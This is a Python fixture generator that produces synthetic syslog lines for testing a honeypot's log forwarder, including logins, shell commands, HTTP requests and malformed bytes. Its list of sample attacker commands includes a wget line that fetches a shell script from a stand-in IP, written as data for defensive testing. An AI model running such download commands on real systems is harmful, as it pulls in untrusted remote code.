"""What the services of a decky write: numbered lines of every kind that the pipe has to carry.

The number is the first thing in the message, or in the whole line when it is no event.
"""

from __future__ import annotations

import random
from collections.abc import Mapping
from datetime import datetime
from typing import Any, NamedTuple

from decnet_events.credential import credential_fields
from decnet_events.emitter import bounded_line
from decnet_events.framing import MAX_LINE
from decnet_events.rfc5424 import Line, format_line

BURST_KINDS = ("connect", "disconnect")
_USERS = ("root", "admin", "oracle", 'o"brien', "back\\slash", "naïve", "[x]", "пользователь")
_COMMANDS = (
    "uname -a",
    'echo "]" > /tmp/x',
    "cat /proc/cpuinfo | grep 'model name'",
    "wget http://203.0.113.9/x.sh",
    "",
)
_AGENTS = ("curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/126.0", "", "zgrab/0.x")
_GARBAGE = (
    b"<13>1 2026-01-01 no header", b"panic: runtime error\tindex out of range [5]", b"\x1b[31mred\x1b[0m",
    b"\\\\\\ backslashes \\n \\. \\N", b"<999>1 - - - - - - priority", b"   spaces   ", b"{\"json\": [1,2]}",
)  # fmt: skip
_BAD = (b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"a\x00b", b"\xf0\x9f\x92", "ok é ☃ 😀".encode())

Key = tuple[str, str | None]
"""Event id and source address: what a withheld line is counted under."""


class Told(NamedTuple):
    """What a row must say."""

    event_id: str
    severity: int
    hostname: str
    src_ip: str | None
    src_port: int | None
    fields: Mapping[str, Any]
    message: str
    raw: str | None
    cut: bool
    occurred_at: datetime

    def fingerprint(self) -> int:
        """64 bits that are equal for equal rows, within one process."""
        return hash((*self[:5], tuple(sorted(self.fields.items())), *self[6:]))


class Written(NamedTuple):
    """One line: its bytes without the newline, and the row that is expected of it.

    `key` is set when the forwarder may withhold it and count it instead.
    """

    content: bytes
    told: Told
    key: Key | None


class Source:
    """Makes the lines of one container."""

    def __init__(self, seed: str, hostname: str, service: str) -> None:
        self._dice = random.Random(seed)
        self._hostname = hostname
        self._service = service
        self._burst: list[tuple[str, dict[str, str]]] = []

    def line(self, number: int, when: datetime) -> Written:
        """The next line; `when` has microseconds and is the runtime's time of its first record."""
        dice = self._dice
        if self._burst:
            event_id, fields = self._burst.pop()
            return self._event(number, when, event_id, fields, "")
        roll = dice.random()
        if roll < 0.03:
            self._burst = self._connections(dice.randint(1, 30))
            return self.line(number, when)
        if roll < 0.08:
            return _no_event(b"N:%d:%b" % (number, dice.choice(_GARBAGE)), when)
        if roll < 0.10:
            return _no_event(b"N:%d:%b%b" % (number, dice.choice(_BAD), b"\xff" * dice.randint(0, 5)), when)
        if roll < 0.101:
            return self._long(number, when, dice.randint(MAX_LINE, 3 * MAX_LINE))
        if roll < 0.11:
            return self._event(
                number, when, "daemon_log", {"program": "sshd"}, " y" * dice.randint(5000, 30000)
            )
        event_id, fields = self._something()
        return self._event(number, when, event_id, fields, "")

    def _address(self) -> str:
        return f"198.51.100.{self._dice.randrange(40)}"

    def _from(self) -> dict[str, str]:
        address = self._address() if self._dice.random() < 0.95 else "2001:db8::17"
        return {"src_ip": address, "src_port": str(self._dice.randint(1024, 65535))}

    def _connections(self, count: int) -> list[tuple[str, dict[str, str]]]:
        """A scanner that comes and goes."""
        address = self._address()
        burst = []
        for _ in range(count):
            source = {"src_ip": address, "src_port": str(self._dice.randint(1024, 65535))}
            burst += [("disconnect", {**source, "reason": "eof"}), ("connect", {**source, "dst_port": "22"})]
        return burst

    def _something(self) -> tuple[str, dict[str, str]]:
        dice = self._dice
        event_id = dice.choice(("credential", "credential", "command", "http_request", "client_version"))
        fields = self._from()
        if event_id == "credential":
            secret = dice.choice((b"123456", b"p\xffss", b"", b'"]\\', bytes(dice.randbytes(12))))
            fields |= {"session": f"{dice.getrandbits(48):012x}"}
            fields |= credential_fields(dice.choice(_USERS), secret, "plaintext")
            fields |= {"outcome": "refused", "method": "password"}
            # What format_line escapes would be told apart only by its text.
            fields["secret_printable"] = "".join(
                c if c.isprintable() else "." for c in fields["secret_printable"]
            )
        elif event_id == "command":
            fields |= {
                "session": "s1",
                "principal": "root",
                "command": dice.choice(_COMMANDS),
                "how": "shell",
            }
        elif event_id == "http_request":
            fields |= {
                "method": "GET", "path": "/" + "a" * dice.randrange(40), "protocol": "HTTP/1.1",
                "status": "404", "user_agent": dice.choice(_AGENTS), "headers": '[["Host", "x"]]',
            }  # fmt: skip
        else:
            fields |= {"version": "SSH-2.0-Go"}
        return event_id, fields

    def _event(
        self, number: int, when: datetime, event_id: str, fields: dict[str, str], rest: str
    ) -> Written:
        line = Line(
            self._hostname,
            self._service,
            event_id,
            fields,
            f"N:{number}:{rest}",
            when,
            self._dice.randint(2, 6),
        )
        content = bounded_line(line)[:-1]
        key = (event_id, fields.get("src_ip")) if event_id in BURST_KINDS else None
        return Written(content, _told(line, line.message, cut=False), key)

    def _long(self, number: int, when: datetime, size: int) -> Written:
        """A line that no emitter of ours would write: the forwarder has to cut it."""
        line = Line(
            self._hostname, self._service, "daemon_log", {"program": "x"}, f"N:{number}:" + "z" * size, when
        )
        content = format_line(line).encode()
        beginning = len(content) - len(line.message)
        return Written(content, _told(line, line.message[: MAX_LINE - beginning], cut=True), None)


def _told(line: Line, message: str, *, cut: bool) -> Told:
    fields = line.fields
    port = fields.get("src_port")
    assert line.timestamp is not None
    return Told(
        line.msg_id, line.severity, line.hostname, fields.get("src_ip"), int(port) if port else None, fields,
        message, None, cut, line.timestamp,
    )  # fmt: skip


def as_text(content: bytes) -> str:
    """How a row has bytes that are no event: undecodable ones and NUL become \\xNN."""
    return content.decode("utf-8", "backslashreplace").replace("\0", "\\x00")


def _no_event(content: bytes, when: datetime) -> Written:
    told = Told("raw", 5, "", None, None, {}, "", as_text(content), False, when)
    return Written(content, told, None)
